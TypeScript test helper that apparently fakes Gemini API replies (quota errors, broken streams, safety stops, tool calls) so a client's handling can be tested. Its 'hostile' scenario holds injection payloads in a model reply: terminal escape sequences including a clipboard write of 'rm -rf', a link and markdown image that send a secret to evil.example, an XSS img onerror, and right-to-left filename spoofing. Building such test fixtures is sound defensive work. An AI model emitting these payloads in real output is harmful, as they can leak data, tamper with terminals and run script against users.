import { setTimeout as delay } from 'node:timers/promises';

/** The parts of a request body that the scenarios look at. */
export interface FakeBody {
  readonly contents?: readonly {
    readonly role?: string;
    readonly parts?: readonly Record<string, unknown>[];
  }[];
  readonly systemInstruction?: unknown;
  readonly generationConfig?: Readonly<Record<string, unknown>>;
  readonly tools?: readonly { readonly functionDeclarations?: readonly { readonly name: string }[] }[];
  readonly [field: string]: unknown;
}

/** A Gemini reply as it goes over the wire, with the ways in which it can go wrong. */
export interface FakeReply {
  readonly parts?: readonly Record<string, unknown>[];
  readonly finishReason?: string;
  /** whole streamed chunks instead of parts */
  readonly chunks?: readonly Record<string, unknown>[];
  readonly payload?: Record<string, unknown>;
  readonly error?: FakeError;
  readonly raw?: string;
  readonly httpStatus?: number;
  readonly contentType?: string;
  readonly rawSse?: string;
  readonly preamble?: string;
  readonly eol?: string;
  readonly byteChunks?: number;
  readonly chunkChars?: number;
  readonly chunkDelay?: number;
  readonly cutAfter?: number;
  readonly stallAfter?: number;
  readonly hang?: boolean;
  /** the version that claims to have answered */
  readonly modelVersion?: string;
}

export interface FakeError {
  readonly httpStatus: number;
  readonly body: object;
}

export interface ScenarioArguments {
  readonly body: FakeBody;
  readonly model: string;
  readonly retry?: string;
  readonly n?: number;
}

export const SIGNATURE = 'EuIDCt8DAXLI2nxFAKESIGNATURE==';

/** An error in Google's shape. */
export function rpcError(
  code: number,
  status: string,
  message: string,
  details?: readonly object[],
): FakeError {
  return {
    httpStatus: code,
    body: { error: { code, message, status, ...(details === undefined ? {} : { details }) } },
  };
}

const QUOTA = 'You exceeded your current quota, please check your plan and billing details.';
const quotaFailure = (quotaId: string, value?: string): object => ({
  '@type': 'type.googleapis.com/google.rpc.QuotaFailure',
  violations: [
    {
      quotaMetric: 'generativelanguage.googleapis.com/generate_content_free_tier_requests',
      quotaId,
      ...(value === undefined ? {} : { quotaValue: value }),
    },
  ],
});
const retryInfo = (retryDelay: string): object => ({
  '@type': 'type.googleapis.com/google.rpc.RetryInfo',
  retryDelay,
});

/** Errors as the service words them, by scenario name. */
export const fakeErrors = {
  '429': ({ retry = '2s' }) =>
    rpcError(429, 'RESOURCE_EXHAUSTED', `${QUOTA} Please retry in ${retry}.`, [
      quotaFailure('GenerateRequestsPerMinutePerProjectPerModel-FreeTier', '10'),
      retryInfo(retry),
    ]),
  '429-daily': () =>
    rpcError(429, 'RESOURCE_EXHAUSTED', QUOTA, [
      quotaFailure('GenerateRequestsPerDayPerProjectPerModel-FreeTier', '250'),
      retryInfo('41s'),
    ]),
  '429-limit0': ({ model }) =>
    rpcError(
      429,
      'RESOURCE_EXHAUSTED',
      `${QUOTA} \n* Quota exceeded for metric: generate_content_free_tier_requests, limit: 0, model: ${model}\nPlease retry in 49.125626837s.`,
      [quotaFailure('GenerateRequestsPerMinutePerProjectPerModel-FreeTier'), retryInfo('49s')],
    ),
  '503': () => rpcError(503, 'UNAVAILABLE', 'The model is overloaded. Please try again later.'),
  '500': () => rpcError(500, 'INTERNAL', 'An internal error has occurred. Please retry or report.'),
  '504': () => rpcError(504, 'DEADLINE_EXCEEDED', 'The request timed out. Please try again.'),
  '404': ({ model }) => rpcError(404, 'NOT_FOUND', `models/${model} is not found for API version v1beta.`),
  badkey: () =>
    rpcError(400, 'INVALID_ARGUMENT', 'API key not valid. Please pass a valid API key.', [
      {
        '@type': 'type.googleapis.com/google.rpc.ErrorInfo',
        reason: 'API_KEY_INVALID',
        domain: 'googleapis.com',
      },
    ]),
  '403': () =>
    rpcError(403, 'PERMISSION_DENIED', 'Your API key was reported as leaked. Please use another API key.'),
  '400-location': () =>
    rpcError(400, 'FAILED_PRECONDITION', 'User location is not supported for the API use.'),
  '413': () =>
    rpcError(
      400,
      'INVALID_ARGUMENT',
      'The input token count (2000001) exceeds the maximum number of tokens allowed (1048576).',
    ),
} satisfies Record<string, (given: ScenarioArguments) => FakeError>;

interface Schema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly enum?: readonly unknown[];
  readonly minItems?: number;
}

/** The smallest value that fits a JSON schema. */
export function sampleForSchema(schema: Schema | undefined): unknown {
  if (schema?.enum !== undefined) return schema.enum[0];
  switch ([schema?.type ?? 'string'].flat()[0]) {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema?.properties ?? {}).map(([key, value]) => [key, sampleForSchema(value)]),
      );
    case 'array':
      return Array.from({ length: Math.max(1, schema?.minItems ?? 1) }, () => sampleForSchema(schema?.items));
    case 'number':
    case 'integer':
      return 1;
    case 'boolean':
      return true;
    default:
      return 'sample';
  }
}

/** One streamed chunk with one candidate. */
export function candidate(parts: readonly object[], finishReason?: string): Record<string, unknown> {
  return {
    candidates: [
      {
        content: { parts, role: 'model' },
        ...(finishReason === undefined ? {} : { finishReason }),
        index: 0,
      },
    ],
  };
}

const says = (text: string): FakeReply => ({ parts: [{ text }], finishReason: 'STOP' });
const ends = (finishReason: string): FakeReply => ({
  payload: { candidates: [{ finishReason, index: 0 }] },
});
const calls = (names: readonly string[]): FakeReply => ({
  parts: names.map((name, index) => ({
    functionCall: { id: `call_${index + 1}`, name, args: { q: index + 1 } },
    ...(index === 0 ? { thoughtSignature: SIGNATURE } : {}),
  })),
  finishReason: 'STOP',
});

const declared = (body: FakeBody): readonly string[] =>
  body.tools?.[0]?.functionDeclarations?.map((declaration) => declaration.name) ?? ['unknown', 'unknown'];

/** The text of the user's last turn. */
export function lastUserText(body: FakeBody): string {
  const turn = [...(body.contents ?? [])].reverse().find((content) => (content.role ?? 'user') === 'user');
  return (turn?.parts ?? []).map((part) => (typeof part['text'] === 'string' ? part['text'] : '')).join('');
}

/** Replies by name. Each stands for one way in which the service is known to answer, well or badly. */
export const scenarios: Readonly<Record<string, (given: ScenarioArguments) => FakeReply>> = {
  text: ({ body }) => {
    const config = body.generationConfig ?? {};
    if (config['responseMimeType'] !== 'application/json') return says(`You asked: ${lastUserText(body)}`);
    return says(JSON.stringify(sampleForSchema(config['responseJsonSchema'] as Schema | undefined)));
  },
  tool: ({ body }) => calls(declared(body).slice(0, 1)),
  'tool-parallel': ({ body }) => calls(declared(body).slice(0, 2)),
  'tool-unknown': () => calls(['no_such_tool']),
  'tool-loop': ({ body }) => calls(declared(body).slice(0, 1)),
  thoughts: () => ({
    parts: [
      { text: '**Considering the margins** SECRET-THOUGHT', thought: true },
      { text: 'Final answer.', thoughtSignature: SIGNATURE },
    ],
    finishReason: 'STOP',
  }),
  'sig-tail': () => ({
    chunks: [
      candidate([{ text: 'Revenue is ' }]),
      candidate([{ text: '₹1,23,456.' }]),
      candidate([{ text: '', thoughtSignature: SIGNATURE }], 'STOP'),
    ],
  }),
  long: ({ n = 200 }) =>
    says(
      Array.from({ length: n }, (_, index) => `- line ${index + 1}: बिक्री ₹${(index + 1) * 100}`).join('\n'),
    ),
  slow: () => ({
    ...says('one two three four five six seven eight nine ten'),
    chunkDelay: 250,
    chunkChars: 6,
  }),
  stall: () => ({ ...says('first part and then nothing more ever'), chunkChars: 10, stallAfter: 1 }),
  hang: () => ({ hang: true }),
  cut: () => ({ ...says('this will be cut in the middle of the stream'), chunkChars: 10, cutAfter: 2 }),
  'no-finish': () => ({ chunks: [candidate([{ text: 'stream ended without finishReason' }])] }),
  'split-utf8': () => ({ ...says('नमस्ते ₹1,00,000 — घाटा 😀'), byteChunks: 3 }),
  crlf: () => ({ ...says('crlf framing'), eol: '\r\n' }),
  keepalive: () => ({ ...says('after a comment'), preamble: ': keep-alive\n\n' }),
  'malformed-json': () => ({
    raw: '{"candidates": [{"content": {"parts": [{"text": "trunc',
    contentType: 'application/json',
  }),
  'malformed-sse': () => ({
    rawSse: `data: ${JSON.stringify(candidate([{ text: 'ok ' }]))}\n\ndata: {"candidates": [{oops}]}\n\n`,
  }),
  'sse-error': () => ({
    rawSse: `data: ${JSON.stringify(candidate([{ text: 'partial ' }]))}\n\ndata: ${JSON.stringify(fakeErrors['503']().body)}\n\n`,
  }),
  'html-502': () => ({
    httpStatus: 502,
    raw: '<html><body><h1>502 Bad Gateway</h1></body></html>',
    contentType: 'text/html',
  }),
  empty: () => ends('STOP'),
  'no-candidates': () => ({ payload: { usageMetadata: { promptTokenCount: 5, totalTokenCount: 5 } } }),
  'prompt-blocked': () => ({ payload: { promptFeedback: { blockReason: 'PROHIBITED_CONTENT' } } }),
  safety: () => ends('SAFETY'),
  'safety-mid': () => ({
    chunks: [
      candidate([{ text: 'Partial text that ' }]),
      { candidates: [{ finishReason: 'SAFETY', index: 0 }] },
    ],
  }),
  recitation: () => ends('RECITATION'),
  prohibited: () => ends('PROHIBITED_CONTENT'),
  'malformed-call': () => ends('MALFORMED_FUNCTION_CALL'),
  'unheard-of': () => ends('TOO_MANY_TOOL_CALLS'),
  'max-tokens': () => ({ parts: [{ text: 'The total comes to ₹45,' }], finishReason: 'MAX_TOKENS' }),
  'max-tokens-empty': () => ({
    payload: { candidates: [{ content: { role: 'model' }, finishReason: 'MAX_TOKENS', index: 0 }] },
  }),
  'bad-inner-json': () => says('{"headline": "Sales up", "actions": ['),
  'fenced-json': () => says('Here you go:\n```json\n{"headline":"Sales up"}\n```'),
  ungrounded: () => says('Revenue was ₹9,99,999.99, up 312% on last month.'),
  hostile: () =>
    says(
      'ok \u001b[31mred\u001b[0m \u001b]0;pwned\u0007\u001b]52;c;cm0gLXJm\u0007 \u001b]8;;https://evil.example/?d=secret\u0007click\u001b]8;;\u0007 ![x](https://evil.example/p.png?d=SECRET) <img src=x onerror=alert(1)> \u202Etxt.exe\u202C\u200B\u{E0041}',
    ),
  echo: ({ body }) => says(JSON.stringify(body)),
  ...Object.fromEntries(
    Object.entries(fakeErrors).map(([name, error]) => [
      name,
      (given: ScenarioArguments): FakeReply => ({ error: error(given) }),
    ]),
  ),
};

/** Waits, or ends early when the client has hung up. */
export async function pause(milliseconds: number, signal: AbortSignal): Promise<void> {
  await delay(milliseconds, undefined, { signal }).catch(() => undefined);
}
